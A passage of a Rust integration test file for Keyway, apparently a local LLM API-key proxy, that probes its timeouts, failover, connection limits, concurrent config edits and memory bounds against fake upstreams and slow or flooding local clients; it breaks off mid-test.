//! Keyway under hostile input, as a proxy left running all day meets it: a local process that
//! opens connections and sends nothing (or sends slowly), an upstream that misbehaves (error
//! bodies longer than Keyway reads, absurd reset times, streams that stall), a process that
//! squats the port, concurrent edits of the config, and oversized client strings. Each probe
//! runs against the real binary and asserts what a user needs: the right status, a complete
//! and correctly framed answer, failover where an account could serve, nothing lost, memory
//! bounded.

use std::time::{Duration, Instant};

use futures_util::StreamExt;
use keyway_tests::{Behaviour, FakeUpstream, Keyway, Provider, Setup};
use serde_json::{Value, json};
use tokio::io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader};
use tokio::net::TcpStream;

// ---------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------

/// Longest any single wait below may take.
const WAIT: Duration = Duration::from_secs(20);

/// Short client timeouts, so the probes below see them act within seconds.
const SHORT_LIMITS: &str = "[limits]\nfirst_byte_timeout_secs = 5\ndrain_secs = 5\n\
client_header_timeout_secs = 1\nclient_body_timeout_secs = 1\nclient_idle_timeout_secs = 2\n\
upstream_idle_timeout_secs = 1\n\n";

/// An HTTP/1.1 answer as a client reads it off the wire: framed by its own `content-length`
/// or chunked encoding, nothing more and nothing less.
#[derive(Debug)]
struct Answer {
    status: u16,
    /// Header names lowercased.
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Answer {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }

    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or_else(|e| {
            panic!(
                "answer {} is not JSON ({e}): {}",
                self.status,
                String::from_utf8_lossy(&self.body)
            )
        })
    }
}

/// A raw keep-alive connection to Keyway.
struct Raw {
    conn: BufReader<TcpStream>,
}

impl Raw {
    async fn connect(keyway: &Keyway) -> Raw {
        let conn = TcpStream::connect(keyway.addr).await.expect("connect");
        Raw {
            conn: BufReader::new(conn),
        }
    }

    async fn send(&mut self, bytes: &[u8]) {
        self.conn.get_mut().write_all(bytes).await.expect("send");
    }

    /// One answer, read as a client must read it (bounded in time: a wrongly framed answer
    /// leaves a client waiting, and fails here).
    async fn answer(&mut self) -> Answer {
        tokio::time::timeout(WAIT, read_answer(&mut self.conn))
            .await
            .expect("a complete, correctly framed answer in time")
    }

    /// How long until Keyway closes this connection (EOF or reset), bounded by [`WAIT`].
    async fn closed_after(&mut self) -> Duration {
        let start = Instant::now();
        let mut sink = Vec::new();
        let read = tokio::time::timeout(WAIT, self.conn.read_to_end(&mut sink)).await;
        assert!(read.is_ok(), "Keyway never closed the connection");
        start.elapsed()
    }
}

async fn read_answer(conn: &mut BufReader<TcpStream>) -> Answer {
    let mut line = String::new();
    conn.read_line(&mut line).await.expect("status line");
    let status = line
        .strip_prefix("HTTP/1.1 ")
        .and_then(|rest| rest.get(..3))
        .and_then(|code| code.parse().ok())
        .unwrap_or_else(|| panic!("not an HTTP answer: {line:?}"));
    let mut headers = Vec::new();
    loop {
        line.clear();
        conn.read_line(&mut line).await.expect("header line");
        let l = line.trim_end();
        if l.is_empty() {
            break;
        }
        let (name, value) = l.split_once(':').expect("a header");
        headers.push((name.to_ascii_lowercase(), value.trim().to_owned()));
    }
    let header = |n: &str| headers.iter().find(|(h, _)| h == n).map(|(_, v)| v.clone());
    let mut body = Vec::new();
    if let Some(len) = header("content-length") {
        body.resize(len.parse().expect("a content-length"), 0);
        conn.read_exact(&mut body).await.expect("the whole body");
    } else if header("transfer-encoding").is_some_and(|t| t.contains("chunked")) {
        loop {
            line.clear();
            conn.read_line(&mut line).await.expect("chunk size");
            let size = usize::from_str_radix(line.trim(), 16).expect("hex chunk size");
            let mut chunk = vec![0; size + 2];
            conn.read_exact(&mut chunk).await.expect("chunk");
            if size == 0 {
                break;
            }
            body.extend_from_slice(&chunk[..size]);
        }
    } else {
        conn.read_to_end(&mut body).await.expect("body to EOF");
    }
    Answer {
        status,
        headers,
        body,
    }
}

/// An Anthropic Messages request as raw bytes, kept alive.
fn anthropic_request(keyway: &Keyway, model: &str) -> Vec<u8> {
    let body =
        json!({"model": model, "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]})
            .to_string();
    format!(
        "POST /v1/messages HTTP/1.1\r\nhost: {}\r\nx-api-key: {}\r\nanthropic-version: 2023-06-01\r\n\
         content-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
        keyway.addr,
        keyway.client_key,
        body.len()
    )
    .into_bytes()
}

/// Account `id` as `GET /api/accounts` shows it.
async fn account(keyway: &Keyway, id: &str) -> Value {
    let all = keyway.api_get("/accounts").await;
    all.as_array()
        .expect("account list")
        .iter()
        .find(|a| a["id"] == id)
        .unwrap_or_else(|| panic!("no account {id} in {all}"))
        .clone()
}

fn unix_secs() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_secs()
}

/// Removes and returns the complete SSE events at the front of `buf`.
fn take_events(buf: &mut Vec<u8>) -> Vec<String> {
    let mut events = Vec::new();
    while let Some(end) = buf.windows(2).position(|w| w == b"\n\n") {
        let event: Vec<u8> = buf.drain(..end + 2).collect();
        events.push(String::from_utf8(event).expect("UTF-8 event"));
    }
    events
}

/// Every SSE event of a streamed answer, read to its end (bounded).
async fn all_events(mut r: reqwest::Response) -> Vec<String> {
    let mut pending = Vec::new();
    let mut events = Vec::new();
    tokio::time::timeout(WAIT, async {
        while let Some(chunk) = r.chunk().await.expect("the stream is not cut") {
            pending.extend_from_slice(&chunk);
            events.extend(take_events(&mut pending));
        }
    })
    .await
    .expect("the stream ends in time");
    events
}

fn event_name(event: &str) -> &str {
    event
        .lines()
        .find_map(|l| l.strip_prefix("event: "))
        .unwrap_or("")
}

/// Keyway with two accounts of `provider` (keys `<provider>-a`, `<provider>-b`) under a
/// priority policy, so the first is always tried first while it can serve.
async fn two_accounts(provider: &str, extra: &str) -> (FakeUpstream, Keyway, [String; 2]) {
    let fake = FakeUpstream::start().await;
    let upstream: Provider = provider.parse().expect("a provider");
    let keys = [format!("{provider}-a"), format!("{provider}-b")];
    fake.register_keys(upstream, keys.iter().map(String::as_str));
    let setup = Setup::new(
        &fake.base_url(),
        &format!("{extra}\n[policies.{provider}]\nstrategy = \"priority\"\n"),
    );
    let a = setup.add_account(provider, "A", &keys[0]).await;
    let b = setup.add_account(provider, "B", &keys[1]).await;
    (fake, setup.start().await, [a, b])
}

// ---------------------------------------------------------------------------------------------
// A broken upstream
// ---------------------------------------------------------------------------------------------

/// An upstream error body longer than Keyway reads of it (64 KiB) reaches the client cut, with
/// a length that says so: the client reads a complete answer and its next request on the same
/// connection is served.
#[tokio::test]
async fn an_upstream_error_longer_than_keyway_reads_keeps_the_connection_framed() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), "");
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    let long = format!(
        r#"{{"type":"error","error":{{"type":"rate_limit_error","message":"{}"}}}}"#,
        "x".repeat(200 * 1024)
    );
    fake.push(
        "sk-ant",
        Behaviour::Raw {
            status: 429,
            // Ready again at once, so that the next request is served.
            headers: vec![("retry-after".into(), "0".into())],
            body: long.clone(),
        },
    );

    let mut raw = Raw::connect(&keyway).await;
    raw.send(&anthropic_request(&keyway, "claude-sonnet-4-5"))
        .await;
    let first = raw.answer().await;
    assert_eq!(
        first.status, 429,
        "the upstream's status reaches the client"
    );
    assert!(
        !first.body.is_empty() && first.body.len() < long.len(),
        "the body Keyway read of it, {} bytes",
        first.body.len()
    );
    assert!(long.as_bytes().starts_with(&first.body));

    // The next request on the same connection is read as a request, not as the rest of the
    // first answer.
    raw.send(&anthropic_request(&keyway, "claude-sonnet-4-5"))
        .await;
    let second = raw.answer().await;
    assert_eq!(
        second.status,
        200,
        "{:?}",
        String::from_utf8_lossy(&second.body)
    );
    assert_eq!(second.json()["type"], "message");
}

/// Reset times no upstream should send (`1e300s`, `u64::MAX`) neither crash the request nor
/// bench an account for more than Keyway's cap, nor for nothing: the request fails over to the
/// next account and the first cools for the cap (eight days).
#[tokio::test]
async fn absurd_reset_times_fail_over_and_cool_the_account_within_bounds() {
    const CAP_SECS: u64 = 8 * 24 * 3600;
    let max = u64::MAX.to_string();
    let cases = [
        (
            "google",
            Behaviour::Raw {
                status: 429,
                headers: vec![],
                body: r#"{"error":{"code":429,"message":"quota","status":"RESOURCE_EXHAUSTED","details":[{"@type":"type.googleapis.com/google.rpc.RetryInfo","retryDelay":"1e300s"}]}}"#.to_owned(),
            },
        ),
        (
            "anthropic",
            Behaviour::Raw {
                status: 429,
                headers: vec![
                    ("anthropic-ratelimit-unified-status".into(), "rejected".into()),
                    ("anthropic-ratelimit-unified-reset".into(), max.clone()),
                    ("retry-after".into(), "1e300".into()),
                ],
                body: r#"{"type":"error","error":{"type":"rate_limit_error","message":"limit"}}"#
                    .to_owned(),
            },
        ),
        (
            "openai",
            Behaviour::Raw {
                status: 429,
                headers: vec![],
                body: format!(
                    r#"{{"error":{{"type":"usage_limit_reached","message":"limit","resets_in_seconds":{max}}}}}"#
                ),
            },
        ),
    ];
    for (provider, behaviour) in cases {
        let (fake, keyway, [a, b]) = two_accounts(provider, "").await;
        fake.push(&format!("{provider}-a"), behaviour);
        let before = unix_secs();
        let r = match provider {
            "google" => keyway
                .http
                .post(keyway.url("/v1beta/models/gemini-2.5-flash:generateContent"))
                .header("x-goog-api-key", &keyway.client_key)
                .json(&json!({"contents": [{"parts": [{"text": "hi"}]}]})),
            "anthropic" => keyway
                .post(
                    "/v1/messages",
                    &json!({"model": "claude-sonnet-4-5", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}),
                )
                .header("anthropic-version", "2023-06-01"),
            _ => keyway
                .http
                .post(keyway.url("/v1/chat/completions"))
                .bearer_auth(&keyway.client_key)
                .json(&json!({"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]})),
        }
        .send()
        .await
        .expect("an answer, not an empty reply");
        assert_eq!(r.status(), 200, "{provider}: the next account serves");
        assert_eq!(r.headers()["x-keyway-account"], b.as_str(), "{provider}");
        let live = account(&keyway, &a).await["live"].clone();
        assert_eq!(live["state"], "cooling", "{provider}: {live}");
        let until = live["cooling_until"].as_u64().expect("cooling_until");
        assert!(
            (before + CAP_SECS - 60..=unix_secs() + CAP_SECS + 2).contains(&until),
            "{provider}: cooling until {until}, for {}s: the cap, not more and not nothing",
            until.saturating_sub(before)
        );
    }
}

/// A stream that stalls mid-answer ends, after `limits.upstream_idle_timeout_secs` of silence,
/// with the surface's error event; a JSON answer that stalls ends incomplete. Neither hangs.
#[tokio::test]
async fn an_upstream_that_stalls_mid_answer_is_ended_not_waited_on() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), SHORT_LIMITS);
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;

    fake.push("sk-ant", Behaviour::StreamThenStall { events: 2 });
    let started = Instant::now();
    let r = keyway
        .post(
            "/v1/messages",
            &json!({"model": "claude-sonnet-4-5", "max_tokens": 16, "stream": true,
                    "messages": [{"role": "user", "content": "hi"}]}),
        )
        .header("anthropic-version", "2023-06-01")
        .send()
        .await
        .expect("headers");
    assert_eq!(r.status(), 200);
    let events = all_events(r).await;
    let deltas = events
        .iter()
        .filter(|e| event_name(e) == "content_block_delta")
        .count();
    assert_eq!(deltas, 2, "what came before the stall reached the client");
    let last = events.last().expect("events");
    assert_eq!(
        event_name(last),
        "error",
        "ends with an error event: {events:#?}"
    );
    assert!(last.contains("limits.upstream_idle_timeout_secs"), "{last}");
    assert!(
        started.elapsed() < Duration::from_secs(8),
        "ended about a second after the stall, not later: {:?}",
        started.elapsed()
    );

    fake.push("sk-ant", Behaviour::StreamThenStall { events: 0 });
    let r = keyway.anthropic("claude-sonnet-4-5").await;
    assert_eq!(r.status(), 200);
    let body = tokio::time::timeout(WAIT, r.bytes())
        .await
        .expect("the JSON answer ends in time");
    assert!(
        body.is_err(),
        "a stalled JSON answer ends incomplete, not as if whole"
    );
}

/// An upstream that resets its connection mid-answer: the stream ends with the surface's
/// error event, and a JSON answer framed by a length it will not reach is not left hanging:
/// Keyway closes the client's connection, so the client sees it incomplete at once, and its
/// next request (on a new connection) is served.
#[tokio::test]
async fn an_upstream_reset_mid_body_ends_the_answer_cleanly() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), "");
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;

    fake.push("sk-ant", Behaviour::StreamThenDrop { events: 1 });
    let r = keyway
        .post(
            "/v1/messages",
            &json!({"model": "claude-sonnet-4-5", "max_tokens": 16, "stream": true,
                    "messages": [{"role": "user", "content": "hi"}]}),
        )
        .header("anthropic-version", "2023-06-01")
        .send()
        .await
        .expect("headers");
    let events = all_events(r).await;
    assert_eq!(
        events.last().map(|e| event_name(e)),
        Some("error"),
        "{events:#?}"
    );

    fake.push("sk-ant", Behaviour::StreamThenDrop { events: 0 });
    let mut raw = Raw::connect(&keyway).await;
    raw.send(&anthropic_request(&keyway, "claude-sonnet-4-5"))
        .await;
    let mut head = String::new();
    raw.conn.read_line(&mut head).await.expect("status line");
    assert!(head.starts_with("HTTP/1.1 200"), "{head}");
    let after = raw.closed_after().await;
    assert!(
        after < Duration::from_secs(5),
        "closed at once, not left waiting: {after:?}"
    );
    assert_eq!(keyway.anthropic("claude-sonnet-4-5").await.status(), 200);
}

/// A stream that keeps sending is never cut, however long it runs past every timeout.
#[tokio::test]
async fn a_stream_that_keeps_sending_outlives_every_timeout() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), SHORT_LIMITS);
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    fake.push(
        "sk-ant",
        Behaviour::Stream {
            events: 10,
            interval: Duration::from_millis(400),
        },
    );
    let r = keyway
        .post(
            "/v1/messages",
            &json!({"model": "claude-sonnet-4-5", "max_tokens": 16, "stream": true,
                    "messages": [{"role": "user", "content": "hi"}]}),
        )
        .header("anthropic-version", "2023-06-01")
        .send()
        .await
        .expect("headers");
    let events = all_events(r).await;
    let deltas = events
        .iter()
        .filter(|e| event_name(e) == "content_block_delta")
        .count();
    assert_eq!(
        deltas, 10,
        "4 s of events, past every 1-2 s timeout: {events:#?}"
    );
    assert_eq!(events.last().map(|e| event_name(e)), Some("message_stop"));
}

// ---------------------------------------------------------------------------------------------
// Slow and idle clients, and too many of them
// ---------------------------------------------------------------------------------------------

/// A connection that sends nothing, or only part of its headers, is closed after
/// `limits.client_header_timeout_secs`.
#[tokio::test]
async fn slow_headers_are_closed_after_the_header_timeout() {
    let fake = FakeUpstream::start().await;
    let keyway = Setup::new(&fake.base_url(), SHORT_LIMITS).start().await;

    let mut silent = Raw::connect(&keyway).await;
    let mut partial = Raw::connect(&keyway).await;
    partial
        .send(format!("POST /v1/messages HTTP/1.1\r\nhost: {}\r\n", keyway.addr).as_bytes())
        .await;
    let (silent, partial) = tokio::join!(silent.closed_after(), partial.closed_after());
    for (what, after) in [("silent", silent), ("partial headers", partial)] {
        assert!(
            (Duration::from_millis(800)..Duration::from_secs(6)).contains(&after),
            "{what}: closed after {after:?}, the header timeout is 1 s"
        );
    }
}

/// A body that stops coming gets 408 in the surface's shape, and the connection closes.
#[tokio::test]
async fn a_body_that_stops_coming_is_a_408() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), SHORT_LIMITS);
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    let mut raw = Raw::connect(&keyway).await;
    raw.send(
        format!(
            "POST /v1/messages HTTP/1.1\r\nhost: {}\r\nx-api-key: {}\r\nanthropic-version: 2023-06-01\r\n\
             content-type: application/json\r\ncontent-length: 500\r\n\r\n{{\"model\":",
            keyway.addr, keyway.client_key
        )
        .as_bytes(),
    )
    .await;
    let answer = raw.answer().await;
    assert_eq!(answer.status, 408);
    assert_eq!(answer.header("connection"), Some("close"));
    let body = answer.json();
    assert_eq!(body["type"], "error", "Anthropic's error shape: {body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("limits.client_body_timeout_secs")),
        "{body}"
    );
    assert!(fake.requests().is_empty(), "nothing went upstream");
}

/// A kept-alive connection with no new request is closed after
/// `limits.client_idle_timeout_secs`, and not before.
#[tokio::test]
async fn an_idle_kept_alive_connection_is_closed_after_the_idle_timeout() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(&fake.base_url(), SHORT_LIMITS);
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    let mut raw = Raw::connect(&keyway).await;
    raw.send(&anthropic_request(&keyway, "claude-sonnet-4-5"))
        .await;
    assert_eq!(raw.answer().await.status, 200);
    let after = raw.closed_after().await;
    assert!(
        (Duration::from_millis(1600)..Duration::from_secs(7)).contains(&after),
        "closed after {after:?}; the idle timeout is 2 s (the header timeout, 1 s, is not it)"
    );
}

/// Raise this test process's soft open-file limit to its hard limit: the probes below open
/// more connections than a default soft limit of 1024 allows.
fn raise_open_files() -> u64 {
    // SAFETY: getrlimit/setrlimit on a local struct.
    unsafe {
        let mut limit = std::mem::zeroed::<libc::rlimit>();
        assert_eq!(libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit), 0);
        limit.rlim_cur = limit.rlim_max;
        libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit);
        limit.rlim_cur as u64
    }
}

/// Open file descriptors of process `pid`.
fn open_fds(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .expect("/proc/<pid>/fd")
        .count()
}

/// 1,100 connections from a process without any key, each sending nothing, do not keep a
/// real request from being served; Keyway closes them after the header timeout and its open
/// files come back down.
#[tokio::test]
async fn a_thousand_half_open_connections_do_not_starve_a_real_request() {
    const HELD: usize = 1100;
    assert!(
        raise_open_files() > HELD as u64 + 200,
        "this probe needs an open-file limit above {HELD}"
    );
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(
        &fake.base_url(),
        "[limits]\nfirst_byte_timeout_secs = 5\ndrain_secs = 5\nclient_header_timeout_secs = 3\n",
    );
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", keyway.pid()))
        .expect("/proc/<pid>/limits");
    let keyway_files: u64 = limits
        .lines()
        .find_map(|l| l.strip_prefix("Max open files"))
        .and_then(|l| l.split_whitespace().next()?.parse().ok())
        .expect("Max open files");
    assert!(
        keyway_files >= 2 * HELD as u64 + 64,
        "Keyway raised its open-file limit to {keyway_files}: too low for this probe"
    );
    let baseline = open_fds(keyway.pid());

    let mut held = Vec::with_capacity(HELD);
    for _ in 0..HELD {
        held.push(TcpStream::connect(keyway.addr).await.expect("connect"));
    }
    let started = Instant::now();
    let r = tokio::time::timeout(
        Duration::from_secs(5),
        keyway.anthropic("claude-sonnet-4-5"),
    )
    .await
    .expect("the real request is served while the connections are held");
    assert_eq!(r.status(), 200);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );

    // Keyway closes every one of them after the header timeout.
    let closed = futures_util::future::join_all(held.iter_mut().map(|c| async move {
        let mut buf = [0u8; 1];
        tokio::time::timeout(WAIT, c.read(&mut buf)).await.is_ok()
    }))
    .await;
    assert!(
        closed.iter().all(|c| *c),
        "every held connection was closed"
    );
    drop(held);
    let deadline = Instant::now() + WAIT;
    while open_fds(keyway.pid()) > baseline + 16 {
        assert!(
            Instant::now() < deadline,
            "open files stay up: {} (at start {baseline})",
            open_fds(keyway.pid())
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Past `limits.max_connections`, a new connection is refused at once (a 503 or a close),
/// never queued; when the held ones time out, requests are served again.
#[tokio::test]
async fn connections_over_the_cap_are_refused_at_once() {
    const CAP: usize = 16;
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-ant");
    let setup = Setup::new(
        &fake.base_url(),
        &format!(
            "[limits]\nfirst_byte_timeout_secs = 5\ndrain_secs = 5\nclient_header_timeout_secs = 2\n\
             max_connections = {CAP}\n"
        ),
    );
    setup.add_account("anthropic", "A", "sk-ant").await;
    let keyway = setup.start().await;
    let mut held = Vec::new();
    for _ in 0..CAP {
        held.push(Raw::connect(&keyway).await);
    }
    // A connection over the cap: answered 503 (or closed) at once, not kept waiting.
    let started = Instant::now();
    let mut over = Raw::connect(&keyway).await;
    over.send(&anthropic_request(&keyway, "claude-sonnet-4-5"))
        .await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(WAIT, over.conn.read_to_end(&mut answer))
        .await
        .expect("refused, not queued");
    assert!(
        started.elapsed() < Duration::from_secs(1),
        "{:?}",
        started.elapsed()
    );
    let answer = String::from_utf8_lossy(&answer);
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 503"),
        "{answer}"
    );

    // The held connections send nothing and time out; then requests are served again.
    for c in &mut held {
        c.closed_after().await;
    }
    let r = keyway.anthropic("claude-sonnet-4-5").await;
    assert_eq!(r.status(), 200);
}

// ---------------------------------------------------------------------------------------------
// Concurrent edits of the config
// ---------------------------------------------------------------------------------------------

/// The keyring entries of `service`, by entry name, read through the Secret Service as any
/// program could (the venv's `secretstorage`, `$KEYWAY_SDK_PYTHON`).
async fn keyring_entries(service: &str) -> Vec<String> {
    let python = std::env::var("KEYWAY_SDK_PYTHON").unwrap_or_else(|_| "python3".to_owned());
    let script = "import sys, secretstorage\n\
                  conn = secretstorage.dbus_init()\n\
                  for item in secretstorage.search_items(conn, {'service': sys.argv[1]}):\n\
                  \x20   print(item.get_attributes().get('username', ''))\n";
    let out = tokio::time::timeout(
        WAIT,
        tokio::process::Command::new(&python)
            .args(["-c", script, service])
            .output(),
    )
    .await
    .expect("the Secret Service answers in time")
    .expect("run python with secretstorage ($KEYWAY_SDK_PYTHON, made by scripts/test)");
    assert!(
        out.status.success(),
        "listing the keyring failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut names: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(str::to_owned)
        .collect();
    names.sort();
    names
}

/// The account ids in the config file, as `keyway account list --json` reads it when no
/// instance runs.
async fn accounts_in_file(setup: &Setup) -> Vec<String> {
    let out = setup.cli(&["account", "list", "--json"]).await;
    let list: Value = serde_json::from_str(out.ok()).expect("JSON");
    let mut ids: Vec<String> = list
        .as_array()
        .expect("a list")
        .iter()
        .map(|a| a["id"].as_str().expect("id").to_owned())
        .collect();
    ids.sort();
    ids
}

/// 15 `keyway account add` while the dashboard saves 300 policy changes: every account lands
/// in the config, every secret in the keyring, and no keyring entry is left without its
/// account.
#[tokio::test]
async fn concurrent_cli_and_api_edits_lose_nothing_and_orphan_no_secret() {
    const ADDS: usize = 15;
    const PUTS: usize = 300;
    let fake = FakeUpstream::start().await;
    let setup = Setup::new(&fake.base_url(), "");
    let keyway = setup.start().await;

    let adds = futures_util::future::join_all((0..ADDS).map(|i| {
        let keyway = &keyway;
        async move {
            keyway
                .cli_with_stdin(
                    &[
                        "account",
                        "add",
                        "anthropic",
                        "--label",
                        &format!("Key {i}"),
                    ],
                    &format!("sk-ant-{i}"),
                )
                .await
        }
    }));
    let puts = async {
        for i in 0..PUTS {
            let strategy = if i % 2 == 0 { "random" } else { "round_robin" };
            let r = keyway
                .api(reqwest::Method::PUT, "/policies/anthropic")
                .json(&json!({ "strategy": strategy }))
                .send()
                .await
                .expect("PUT");
            assert_eq!(
                r.status(),
                200,
                "PUT {i}: {}",
                r.text().await.unwrap_or_default()
            );
        }
    };
    let (adds, ()) = tokio::join!(adds, puts);
    let mut added: Vec<String> = adds.iter().map(|out| out.ok().to_owned()).collect();
    added.sort();
    assert_eq!(added.len(), ADDS);

    let setup = keyway.stop_keeping_setup().await;
    assert_eq!(
        accounts_in_file(&setup).await,
        added,
        "every added account is in the config"
    );
    let policies = setup.cli(&["policy", "list", "--json"]).await;
    let policies: Value = serde_json::from_str(policies.ok()).expect("JSON");
    let anthropic = policies
        .as_array()
        .expect("list")
        .iter()
        .find(|p| p["key"] == "anthropic")
        .expect("the provider policy");
    assert_eq!(
        anthropic["strategy"], "round_robin",
        "the last PUT is what was saved"
    );
    let expected: Vec<String> = added.iter().map(|id| format!("account:{id}")).collect();
    let stored: Vec<String> = keyring_entries(&setup.keyring_service)
        .await
        .into_iter()
        .filter(|name| name.starts_with("account:"))
        .collect();
    assert_eq!(
        stored, expected,
        "one keyring entry per account, none orphaned"
    );
}

/// `accounts = [{...}]` and `policies = {...}` are valid TOML: the CLI and the management API
/// edit such a config instead of failing, and nothing in it is lost.
#[tokio::test]
async fn inline_accounts_and_policies_are_edited_by_the_cli_and_the_api() {
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::Anthropic, "sk-inline");
    let inline = "accounts = [{ id = \"anthropic-0a0a0a\", provider = \"anthropic\", label = \"Inline\" }]\n\
                  policies = { anthropic = { strategy = \"priority\", accounts = [\"anthropic-0a0a0a\"] } }\n";
    let setup = Setup::new(&fake.base_url(), inline);
    let from_cli = setup.add_account("anthropic", "From CLI", "sk-cli").await;
    let keyway = setup.start().await;
    let r = keyway
        .api(reqwest::Method::POST, "/accounts")
        .json(&json!({"provider": "anthropic", "label": "From API", "secret": "sk-api"}))
        .send()
        .await
        .expect("POST");
    assert_eq!(r.status(), 201, "{}", r.text().await.unwrap_or_default());
    let from_api = r.json::<Value>().await.expect("JSON")["id"]
        .as_str()
        .expect("id")
        .to_owned();
    let r = keyway
        .api(reqwest::Method::PUT, "/policies/anthropic/opus")
        .json(&json!({"strategy": "random"}))
        .send()
        .await
        .expect("PUT");
    assert_eq!(r.status(), 200, "{}", r.text().await.unwrap_or_default());
    let out = keyway
        .cli(&[
            "policy",
            "set",
            "anthropic/sonnet",
            "--strategy",
            "round_robin",
        ])
        .await;
    out.ok();

    let setup = keyway.stop_keeping_setup().await;
    let mut want = vec!["anthropic-0a0a0a".to_owned(), from_cli, from_api];
    want.sort();
    assert_eq!(accounts_in_file(&setup).await, want);
    let policies = setup.cli(&["policy", "list", "--json"]).await;
    let policies: Value = serde_json::from_str(policies.ok()).expect("JSON");
    let strategy = |key: &str| {
        policies
            .as_array()
            .expect("list")
            .iter()
            .find(|p| p["key"] == key)
            .map(|p| (p["strategy"].clone(), p["configured"].clone()))
    };
    assert_eq!(
        strategy("anthropic"),
        Some((json!("priority"), json!(true)))
    );
    assert_eq!(
        strategy("anthropic/opus"),
        Some((json!("random"), json!(true)))
    );
    assert_eq!(
        strategy("anthropic/sonnet"),
        Some((json!("round_robin"), json!(true)))
    );
}

// ---------------------------------------------------------------------------------------------
// Oversized client input
// ---------------------------------------------------------------------------------------------

/// Resident memory of process `pid`, in KiB (`VmRSS`).
fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmRSS")
}

/// Bytes of the usage history on disk (the database, its write-ahead log and the per-day
/// request log).
fn history_bytes(setup: &Setup) -> u64 {
    let data = setup.data_dir();
    let log = std::fs::read_dir(data.join("usage-log"))
        .map(|files| files.flatten().map(|f| f.path()).collect())
        .unwrap_or_else(|_| Vec::new());
    ["usage.sqlite3", "usage.sqlite3-wal"]
        .iter()
        .map(|f| data.join(f))
        .chain(log)
        .filter_map(|f| std::fs::metadata(f).ok())
        .map(|m| m.len())
        .sum()
}

/// A model name of 8 MiB is served, and recorded cut to 256 characters: 40 such requests
/// leave Keyway's memory and the usage history about where they were (before the fix: +360 MB
/// of memory, a 321 MB history).
///
/// Keyway's allocator (mimalloc) is told to give freed memory back to the system at once
/// (`MIMALLOC_PURGE_DELAY=0`; by default it keeps it a while for reuse, and how much it still
/// holds when the test looks depends on which threads served the 8 MiB bodies): Keyway's
/// resident memory then measures what it keeps, not what the allocator caches.
#[tokio::test]
async fn huge_model_names_are_recorded_cut_and_memory_stays_bounded() {
    const REQUESTS: usize = 40;
    const MODEL_BYTES: usize = 8 * 1024 * 1024;
    /// Memory Keyway may keep after the requests, beyond what it held before them: less than
    /// 4 of the 40 names kept whole would take.
    const RSS_GROWTH_MIB: u64 = 30;
    /// Milliseconds mimalloc waits before it gives freed memory back.
    const PURGE_DELAY: &str = "0";
    /// The usage history after 40 records.
    const HISTORY_MIB: u64 = 1;
    let fake = FakeUpstream::start().await;
    fake.register_key(Provider::OpenAi, "sk-oa");
    let setup = Setup::new(&fake.base_url(), "")
        .with_env("MIMALLOC_PURGE_DELAY", Some(PURGE_DELAY.as_ref()));
    setup.add_account("openai", "O", "sk-oa").await;
    let keyway = setup.start().await;
    let warm_up = keyway
        .http
        .post(keyway.url("/v1/chat/completions"))
        .bearer_auth(&keyway.client_key)
        .json(&json!({"model": "gpt-5", "messages": [{"role": "user", "content": "hi"}]}))
        .send()
        .await
        .expect("warm-up");
    assert_eq!(warm_up.status(), 200);
    let _ = keyway.api_get("/usage").await;
    let before_rss = rss_kib(keyway.pid());
    let before_history = history_bytes(&keyway.setup);

    // The upstream's answer, without the fake reading the 8 MiB body it gets.
